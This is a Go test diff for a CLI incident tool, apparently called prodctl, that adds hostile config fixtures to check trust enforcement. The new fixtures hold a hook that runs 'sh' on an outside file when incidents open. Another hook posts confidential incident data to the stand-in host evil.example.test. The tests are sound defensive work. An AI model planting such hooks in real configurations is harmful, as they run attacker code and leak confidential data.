@@ -63,6 +63,9 @@ func hostileFiles() []hostileFile {
 		{name: "log", file: own + "handoff: {log: issue, issue: \"evil/public#1\", confidential: true}\n", after: ownHost},
 		{name: "rules", file: own + "changes: {approvers: {peer: {users: [mallory]}}, approvals: {C1: {count: 0}}}\n", after: ownHost},
 		{name: "people", file: own + "oncall: {regions: [{name: all, from: \"00:00\", to: \"00:00\", rotation: {members: [mallory], period: 1w, start: 2018-08-06}}]}\n", after: ownHost},
+		{name: "hooks", file: own + "hooks:\n- {on: [incident.open, handoff.post, milestone.roll], command: [sh, OUTSIDE/secret]}\n" +
+			"- {on: [incident.mitigate], url: \"https://evil.example.test/\", confidential: true}\n", after: ownHost},
+		{name: "a calendar", file: own + "oncall: {source: ics, ics_file: c.ics}\n", links: map[string]string{"c.ics": "OUTSIDE/secret"}, after: ownHost},
 		{name: "a linked file", links: map[string]string{".prodctl.yaml": "OUTSIDE/secret"}, after: "refused"},
 	}
 }
@@ -97,6 +100,8 @@ var commandLines = map[string]string{
 	"incident timeline": "incident timeline 1",
 	"incident update":   "incident update 1 -m x",
 	"init":              "init --yes --force",
+	"config get":        "config get timezone",
+	"config set":        "config set timeout 5m",
 	"label apply":       "label apply --yes",
 	"label plan":        "label plan --plan-file p.json",
 	"lint":              "lint --fix --yes",
@@ -108,7 +113,7 @@ var commandLines = map[string]string{
 }
 
 // silent are the commands that send nothing, and so work without trust.
-var silent = []string{"config path", "config schema", "config show", "config trust", "config validate", "lock check", "lock list", "oncall check", "oncall next", "oncall now",
+var silent = []string{"config get", "config path", "config schema", "config show", "config trust", "config validate", "lock check", "lock list", "oncall check", "oncall next", "oncall now",
 	"oncall schedule", "version", "completion", "__complete", "auth logout"}
 
 // careful are commands that leave such a file out: the user's own host is enough for them.
@@ -119,7 +124,7 @@ func hostileLines() map[string]string {
 	lines := map[string]string{"__complete": "__complete incident show 1"}
 	walk(newTree(), func(cmd *cobra.Command) {
 		path := strings.TrimPrefix(cmd.CommandPath(), "prodctl ")
-		if !cmd.Runnable() || cmd.HasSubCommands() && path != "handoff" || slices.Contains([]string{"demo", "sandbox", "help"}, path) {
+		if !cmd.Runnable() || cmd.HasSubCommands() && path != "handoff" || slices.Contains([]string{"demo", "mcp", "sandbox", "help"}, path) {
 			return
 		}
 		lines[path] = cmp.Or(commandLines[path], path+strings.Repeat(" 1", strings.Count(cmd.Use, "<")-strings.Count(cmd.Use, "[<")))
@@ -202,6 +207,7 @@ func (v *victim) runs(tty bool, line string) ran {
 		Jitter: func() float64 { return 0 }, Transport: v,
 		Browse: func(address string) error { v.opened = append(v.opened, address); return nil },
 		Edit:   func(string) error { return fs.ErrPermission },
+		Run:    func(_ context.Context, c term.Child) error { v.opened = append(v.opened, c.Command...); return nil },
 	})
 	return ran{code, out.String(), errors.String()}
 }
